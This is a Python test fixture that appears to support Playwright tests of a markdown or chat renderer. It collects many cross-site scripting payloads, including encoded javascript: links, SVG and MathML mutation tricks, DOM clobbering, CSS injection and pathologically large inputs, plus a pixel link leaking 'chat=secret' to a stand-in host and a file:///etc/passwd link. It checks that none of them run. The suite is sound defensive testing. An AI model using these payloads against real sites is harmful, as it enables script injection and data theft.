"""Texts that try to run code, load something or hold the page; and the check that none did."""

from pathlib import Path
from typing import Final

from playwright.sync_api import Page

RAN: Final = "ran_by_injection"
"""The name of the window that is set when something runs."""

_RUN: Final = f"(top||window).{RAN}=1"
_OUTSIDE: Final = "https://outside.invalid"

SCRIPTS: Final = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f'<script src="data:text/javascript,{_RUN}"></script>',
    f"<script src={_OUTSIDE}/x.js></script>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"</textarea></title></style><script>{_RUN}</script>",
    f"<script\x00>{_RUN}</script>",
    f"<!--><script>{_RUN}</script>-->",
    f"<template><script>{_RUN}</script></template>",
)
HANDLERS: Final = (
    f'<img src=x onerror="{_RUN}">',
    f"<img src=x:x onerror={_RUN}//",
    f"<img/src=`x`onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<div onpointerenter={_RUN} style='position:fixed;inset:0'>x</div>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f"<a href=x onclick={_RUN}>x</a>",
    f"<iframe srcdoc='<script>parent.{RAN}=1</script>'></iframe>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    f"<form><button formaction='javascript:{_RUN}'>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<base href='javascript:{_RUN}//'>",
    f'![x](x"onerror="{_RUN})',
    f'![x](https://a.invalid/"onerror="{_RUN})',
    f'[x](https://a.invalid "onmouseover={_RUN}")',
)
ADDRESSES: Final = (
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](java\tscript:{_RUN})",
    f"[x](<java\nscript:{_RUN}>)",
    f"[x](&#106;avascript:{_RUN})",
    f"[x](&#x6A;&#x61;vascript&colon;{_RUN})",
    f"[x](java&Tab;script:{_RUN})",
    f"[x](java&#10;script:{_RUN})",
    f"[x](\x01javascript:{_RUN})",
    f"[x](%6Aavascript:{_RUN})",
    f"<javascript:{_RUN}>",
    f"[x][r]\n\n[r]: javascript:{_RUN}",
    f"[x](vbscript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD50b3AucmFuX2J5X2luamVjdGlvbj0xPC9zY3JpcHQ+)",
    f"![x](javascript:{_RUN})",
    f"![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>)",
    f"[x](blob:{_OUTSIDE}/1)",
    "[x](//outside.invalid/x)",
    "[x](/\\outside.invalid/x)",
    "[bank](https://bank.example@outside.invalid/)",
    f"![x]({_OUTSIDE}/pixel.png?chat=secret)",
    f"[![x]({_OUTSIDE}/pixel.png)]({_OUTSIDE})",
    '![x](https://outside.invalid/\n"x)',
    "file:///etc/passwd [x](file:///etc/passwd)",
)
FOREIGN_MARKUP: Final = (
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    "<math><annotation-xml encoding='text/html'>"
    f"<style><img src=x onerror={_RUN}></style></annotation-xml></math>",
    f"<math href='javascript:{_RUN}'>x</math>",
    f"$$\\href{{javascript:{_RUN}}}{{x}}$$",
    f"\\(\\url{{javascript:{_RUN}}}\\)",
    f"$$\\includegraphics{{{_OUTSIDE}/x.png}}$$",
    f"$$\\text{{<img src=x onerror={_RUN}>}}$$",
    f"$$\\style{{background:url({_OUTSIDE})}}{{x}}\\class{{embed}}{{y}}\\id{{app}}{{z}}$$",
    f"\\[\\unicode{{<script>{_RUN}</script>}}\\]",
    f"```<img src=x onerror={_RUN}>\nx\n```",
    f"```html\n<script>{_RUN}</script>\n```",
    f"```javascript\n</code></pre><img src=x onerror={_RUN}>\n```",
    f"```xml\n<a x='</span><img src=x onerror={_RUN}>'>\n```",
    f"```__proto__\nx\n```\n\n```constructor\n{_RUN}\n```",
)
CLOBBERING: Final = (
    "<form id=app><input name=dataset></form>",
    "<a id=trustedTypes></a><a id=trustedTypes name=createPolicy href=x>",
    "<img name=currentScript><img name=getElementById>",
    "[__proto__]: https://a.invalid\n\n[__proto__] [constructor] [toString]",
    "[^__proto__]\n\n[^__proto__]: x\n[^constructor]: y",
    '{"__proto__": {"innerHTML": "x"}, "constructor": {"prototype": {"html": 1}}}',
    "<p class=shell data-testid=x hidden>x</p>",
)
TEMPLATES: Final = (
    f"${{{_RUN}}}",
    f"{{{{{_RUN}}}}}",
    f"<${{Foo}} onClick=${{() => {_RUN}}} />",
    f"<div dangerouslySetInnerHTML=${{{{__html: '<img src=x onerror={_RUN}>'}}}} />",
    "{name} {count} {0} %s $& $1 $`",
)
STYLES: Final = (
    "<style>*{display:none}</style>",
    f"<style>@import '{_OUTSIDE}/x.css';</style>",
    f"<link rel=stylesheet href={_OUTSIDE}/x.css>",
    f"<p style='background:url({_OUTSIDE}/x.png)'>x</p>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>x</div>",
)
CHARACTERS: Final = (
    "\u202etxt.exe\u202c gnp.\u202etxt \u2066\u2067\u2068 a \u2069",
    "\u202a" * 500 + "a",
    "Z" + "\u0300\u0315\u031b\u0322\u0489" * 200 + "algo",
    "\u0645\u0631\u062d\u0628\u0627 `code` abc \u05e9\u05dc\u05d5\u05dd",
    "\ufffe\uffff\ufeff\u200b\u2028\u2029\x7f\x1b[31m",
    "a\ud800b".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 300,
)
SIZES: Final = (
    "x" * 200_000,
    "https://a.invalid/" + "y" * 50_000,
    "> " * 10_000 + "x",
    ">" * 10_000,
    "- " * 10_000 + "x",
    "1. " * 10_000,
    "\n".join(" " * (2 * level) + "- x" for level in range(300)),
    "|" + "a|" * 100 + "\n|" + "-|" * 100 + "\n" + ("|" + "b|" * 100 + "\n") * 100,
    "|" * 20_000 + "\n" + "|-" * 20_000,
    "```python\n" + "x = [\n" * 10_000,
    "~~~\n" + "a" * 100_000,
    "$$" + "x^{" * 1_000 + "}" * 1_000 + "$$",
    "$$" + "\\frac{1}{" * 35 + "x" + "}" * 35 + "$$",
    "\\(" + "x+" * 1_900 + "y\\)",
    "\\[\n" * 10_000,
    "$$\n" * 10_000,
    "$$\\def\\a{\\b\\b}\\def\\b{\\a\\a}\\a$$",
    "$$\\rule{1000000em}{1000000em}$$",
    "*a " * 30_000,
    "**_~~`[" * 10_000,
    "[" * 50_000,
    "[a](" * 20_000,
    "![" * 20_000,
    "<" * 50_000,
    "&" * 50_000,
    "&#99999999; &#0; &#xD800; &notanentity;",
    "`" * 20_000 + "a",
    " ".join("`" * count for count in range(1, 300)),
    "> a\nb\n" * 10_000,
    "# " * 20_000,
    "a\n=\n" * 20_000,
    "\\" * 50_000,
    "\n".join(f"[l{number}]: https://a.invalid" for number in range(5_000)) + "\n\n" + "[l1] " * 5_000,
    "[^1]" * 10_000 + "\n\n[^1]: x",
    "[1]" * 10_000,
)
INJECTIONS: Final[dict[str, tuple[str, ...]]] = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "addresses": ADDRESSES,
    "foreign markup": FOREIGN_MARKUP,
    "clobbering": CLOBBERING,
    "templates": TEMPLATES,
    "styles": STYLES,
    "characters": CHARACTERS,
    "sizes": SIZES,
}
SHORT: Final = tuple(
    text for kind, texts in INJECTIONS.items() if kind != "sizes" for text in texts if len(text) <= 255
)
"""Those that fit in a field of one line."""

_FOUND: Final = (Path(__file__).parent / "ran.js").read_text()


def assert_nothing_ran(page: Page) -> None:
    """Fail if a text of the corpus ran, became an element that could run, or loads something from outside."""
    found: list[str] = page.evaluate(_FOUND)
    assert not found, "\n".join(found)
